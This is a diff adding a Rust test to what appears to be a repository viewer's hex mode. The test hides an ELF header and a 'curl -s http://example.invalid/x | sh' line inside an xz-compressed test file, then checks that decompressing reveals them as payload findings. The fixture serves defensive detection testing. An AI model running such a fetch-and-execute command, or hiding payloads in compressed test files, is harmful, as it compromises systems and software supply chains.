@@ -1073,3 +1073,58 @@ fn a_shallow_clone_says_its_history_is_missing_in_the_header() {
         assert!(screen.contains("Change 5"), "the history it has is listed:\n{screen}");
     }
 }
+
+/// `z` in the hex view shows what a compressed test file decompresses to,
+/// with the findings of those bytes, and back; on other blobs it says
+/// there is nothing to decompress.
+#[test]
+fn z_toggles_the_hex_view_between_a_compressed_blob_and_what_it_decompresses_to() {
+    use std::io::Write as _;
+    let mut plain: Vec<u8> = (0..400).flat_map(|i| format!("vector {i:04}: ok\n").into_bytes()).collect();
+    let elf = plain.len();
+    plain.extend_from_slice(b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x3e\0\x01\0\0\0");
+    plain.extend_from_slice(b"\n#!/bin/sh\ncurl -s http://example.invalid/x | sh\n");
+    let mut writer = lzma_rust2::XzWriter::new(Vec::new(), lzma_rust2::XzOptions::with_preset(6)).expect("xz");
+    writer.write_all(&plain).expect("xz");
+    let packed = writer.finish().expect("xz");
+
+    let dir = tempfile::tempdir().expect("temp dir");
+    let repo = dir.path().join("lib");
+    let start = vec![("README", b"a compression library\n".to_vec())];
+    let files = vec![("tests/good-1-lzma2.xz", packed.clone()), ("tests/other.bin", vec![0u8, 1, 2, 3, 0xff])];
+    main_line(&repo, vec![("Start\n", start), ("Add test files\n", files)]);
+    let demo = world(dir, repo);
+    let mut d = Driver::new(&demo, 160, 48);
+    d.select("Add test files");
+    d.key(KeyCode::Enter);
+    d.keys("x");
+    assert_eq!(d.app.screen, Screen::Hex);
+    let raw = d.screen();
+    assert!(raw.contains(&format!("new blob · 0x0 of 0x{:x} · z: decompressed", packed.len())), "{raw}");
+    assert!(raw.contains("no payload findings"), "the raw bytes hide it: {raw}");
+
+    d.keys("z");
+    assert!(d.notice().starts_with("decompressed: xz stream: "), "{}", d.notice());
+    assert!(d.notice().contains(&format!("({} bytes)", plain.len())), "{}", d.notice());
+    let shown = d.screen();
+    let header = format!("new blob, decompressed · 0x0 of 0x{:x} · z: raw bytes", plain.len());
+    assert!(shown.contains(&header), "the decompressed size: {shown}");
+    assert!(shown.contains("ELF header"), "{shown}");
+    assert!(shown.contains("vector 0000") || shown.contains("vector 0"), "the decompressed rows: {shown}");
+    d.keys("!");
+    assert!(d.notice().starts_with(&format!("finding 1 of 3 at 0x{elf:x}")), "{}", d.notice());
+
+    d.keys("z");
+    assert!(d.notice().starts_with("the raw blob"), "{}", d.notice());
+    assert_eq!(d.app.hex.as_ref().map(|h| h.top), Some(0), "back at the top of the raw bytes");
+    assert_eq!(d.app.hex.as_ref().and_then(|h| h.side()).map(|s| s.bytes.len()), Some(packed.len()));
+
+    // Another binary that is no stream.
+    d.key(KeyCode::Esc);
+    d.keys("}");
+    d.keys("x");
+    d.keys("z");
+    assert!(d.notice().starts_with("not a compressed stream"), "{}", d.notice());
+    let screen = d.screen();
+    assert!(screen.contains("· new blob · 0x0 of 0x5") && !screen.contains("z: "), "still the raw bytes: {screen}");
+}
